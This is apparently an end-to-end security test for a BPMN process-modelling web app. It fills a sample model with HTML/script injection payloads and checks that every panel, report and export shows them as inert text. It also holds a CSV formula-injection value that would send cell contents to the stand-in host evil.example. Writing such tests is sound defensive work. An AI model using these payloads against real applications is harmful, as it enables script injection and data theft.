import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { launchBrowser, newAppPage } from '../support/browser';
import { openApp, waitUntilIdle, waitUntilReady } from '../support/app';
import { closePanel, download, exportModel, openPanel, pageAlarms, panelIds, watchPage } from '../support/tour';

/*
 * A model whose names, documentation and value-chain texts are HTML and script:
 * every panel, tooltip, the audit report, the dashboard, the simulation results and
 * every export show them as the text they are. The payloads call window.__mlHit if
 * they ever run, and the Content-Security-Policy would report them if they were ever
 * turned into markup; neither may happen.
 */

/** The markup every text of the model gets; `tag` tells which text ran, should one ever run. */
const payload = (tag: string) => `<img src=x onerror=__mlHit('${tag}')><script>__mlHit('${tag}')</script>`;
/** What a user must see literally somewhere in every view that shows names. */
const VISIBLE = '<img src=x onerror=__mlHit(';
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"klik")';

const xmlEscape = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/** The complaint-handling sample with markup in every name, department, person, deliverable, criteria and documentation. */
function hostileModel(): string {
  let xml = readFileSync(new URL('../../processes/klachtafhandeling.bpmn', import.meta.url), 'utf8');
  let n = 0;
  xml = xml.replace(/\s(name|department|person|head|deliverable|criteria|valueProposition|product|channel)="([^"]*)"/g, (_m, attr: string, value: string) => {
    const text = value === 'Klacht registreren' ? FORMULA : `${value} ${payload(`${attr}${n++}`)}`;
    return ` ${attr}="${xmlEscape(text)}"`;
  });
  xml = xml.replace(/(<bpmn:documentation>)([^<]*)/, (_m, open: string, text: string) => `${open}${xmlEscape(`${text} ${payload('doc')}`)}`);
  xml = xml.replace(/(<bpmn:userTask id="kl_registreren"[^>]*>)/, `$1<bpmn:documentation>${xmlEscape(payload('task-doc'))}</bpmn:documentation>`);
  return xml;
}

/** All text of the page, shadow roots included, with the titles and accessible names of elements. */
async function deepText(page: Page, selector = 'body'): Promise<string> {
  return page.evaluate((sel) => {
    const parts: string[] = [];
    const walk = (node: Node) => {
      if (node.nodeType === Node.TEXT_NODE) parts.push(node.textContent ?? '');
      if (node instanceof Element) {
        for (const attr of ['title', 'aria-label']) if (node.hasAttribute(attr)) parts.push(node.getAttribute(attr)!);
        if (node.shadowRoot) walk(node.shadowRoot);
      }
      for (const child of node.childNodes) walk(child);
    };
    const root = document.querySelector(sel);
    if (root) walk(root);
    return parts.join('\n');
  }, selector);
}

/** Elements a payload would have created if it had been parsed as HTML, anywhere in the page. */
async function injectedElements(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    const walk = (root: Document | ShadowRoot) => {
      for (const el of root.querySelectorAll('img[src="x"], script:not([src]), [onerror]')) found.push(el.outerHTML.slice(0, 120));
      for (const el of root.querySelectorAll('*')) if (el.shadowRoot) walk(el.shadowRoot);
    };
    walk(document);
    return found;
  });
}

let browser: Browser;

beforeAll(async () => {
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser?.close();
});

describe('markup in a model is shown as text everywhere', () => {
  it('imports a model full of HTML and script, shows it literally in every view and export, and runs none of it', async () => {
    const { context, page, errors } = await newAppPage(browser);
    await watchPage(context);
    await openApp(page);

    // given a model whose texts are markup, imported through the library's file picker
    const xml = hostileModel();
    await page.locator('ml-library input[type=file]').setInputFiles({ name: 'vijandig.bpmn', mimeType: 'application/xml', buffer: Buffer.from(xml) });
    await page.waitForFunction(() => document.querySelector('.doc-name')?.textContent?.includes('<img'));
    await waitUntilIdle(page);
    await waitUntilReady(page);

    // then the header, its tooltip, the library and the diagram labels show the markup as text
    const processName = (await page.locator('.doc-name').textContent())!.trim();
    expect(processName).toMatch(/^Klachtafhandeling <img src=x onerror=__mlHit\('name\d+'\)><script>__mlHit\('name\d+'\)<\/script>$/);
    expect(await page.locator('.doc-name').getAttribute('title')).toBe(processName);
    expect(await page.locator('ml-library li .open', { hasText: 'Klachtafhandeling <img' }).count()).toBe(1);
    const labels = await page.locator('.djs-container .djs-label').allTextContents();
    expect(labels.join(' ')).toContain("<script>__mlHit('name");

    // when every panel is opened, with a task selected for the properties
    await page.evaluate(() => {
      const { modeler } = (window as unknown as { missinglink: { modeler: { get(n: string): any } } }).missinglink;
      modeler.get('selection').select(modeler.get('elementRegistry').get('kl_registreren'));
    });
    const showsNames = ['properties', 'kpi-table', 'raci-matrix', 'audit', 'handover-matrix', 'dashboard', 'simulation'];
    const panels = await panelIds(page);
    expect(panels).toEqual(expect.arrayContaining(showsNames));
    for (const id of panels) {
      const panel = await openPanel(page, id);
      if (id === 'dashboard') await panel.locator('canvas').first().waitFor();
      if (id === 'simulation') {
        await panel.locator('[role="tab"][data-mode="batch"]').click();
        await panel.locator('button[data-action="run-batch"]').click();
        await panel.locator('.scenario').first().waitFor({ timeout: 60_000 });
        const json = await download(page, () => panel.locator('button[data-action="export-json"]').click());
        expect(JSON.stringify(JSON.parse(json.text))).toContain('<img src=x onerror=');
        const csv = await download(page, () => panel.locator('button[data-action="export-csv"]').click());
        expect(csv.text).toContain(VISIBLE);
      }
      if (id === 'kpi-table') {
        const csv = await download(page, () => panel.locator('[data-action="export-csv"]').click());
        expect(csv.text).toContain(VISIBLE);
        // a name that is a spreadsheet formula is written so the spreadsheet shows it, not runs it
        expect(csv.text).not.toMatch(/(^|[,;])"?=HYPERLINK/m);
        expect(csv.text).toContain("'=HYPERLINK");
      }
      const text = await deepText(page, `aside[data-panel-id="${id}"]`);
      if (showsNames.includes(id)) expect(text, `panel ${id}`).toContain(VISIBLE);
      expect(await injectedElements(page), `panel ${id}`).toEqual([]);
      if (id === 'properties') {
        // the documentation is shown in its field as text
        expect(await page.locator('ml-properties textarea').evaluateAll((areas) => areas.map((a) => (a as HTMLTextAreaElement).value).join('\n'))).toContain("__mlHit('task-doc')");
      }
      await closePanel(page, id);
    }

    // and the audit report shows them as text and exports them harmlessly
    const audit = await openPanel(page, 'audit');
    await audit.locator('[data-action="report"]').click();
    const report = page.locator('ml-audit-report');
    await report.locator('article').waitFor();
    expect(await report.locator('[data-process-name]').textContent()).toBe(processName);
    expect(await deepText(page, 'ml-audit-report')).toContain(VISIBLE);
    expect(await injectedElements(page)).toEqual([]);
    const md = await download(page, () => report.locator('[data-download="md"]').click());
    expect(md.text).not.toMatch(/(^|[^\\])<(img|script)/m);
    expect(md.text).toContain('\\<img src=x onerror=__mlHit(');
    const json = await download(page, () => report.locator('[data-download="json"]').click());
    expect((JSON.parse(json.text) as { files: Array<{ file: string }> }).files[0]!.file).toBe(processName);
    const csv = await download(page, () => report.locator('[data-download="csv"]').click());
    expect(csv.text).toContain(VISIBLE);
    await report.locator('[data-action="close-report"]').click();
    await closePanel(page, 'audit');

    // and the diagram exports carry the texts escaped: no element, handler or script from them
    const svg = await exportModel(page, 'svg');
    expect(svg.text).not.toMatch(/<(img|script)\b/i);
    expect(svg.text).toContain('&lt;img src=x onerror=__mlHit(');
    const bpmn = await exportModel(page, 'bpmn');
    expect(bpmn.text).not.toMatch(/<(img|script)\b/i);
    expect(bpmn.text).toContain('&lt;script&gt;__mlHit(');

    // and nothing ran: no payload called home, the policy reported nothing, no page error
    const alarms = await pageAlarms(page);
    expect(alarms.hits).toEqual([]);
    expect(alarms.violations).toEqual([]);
    expect(errors).toEqual([]);
    await page.screenshot({ path: 'test-results/hostile-markup.png' }).catch(() => undefined);
    await context.close();
  });
});
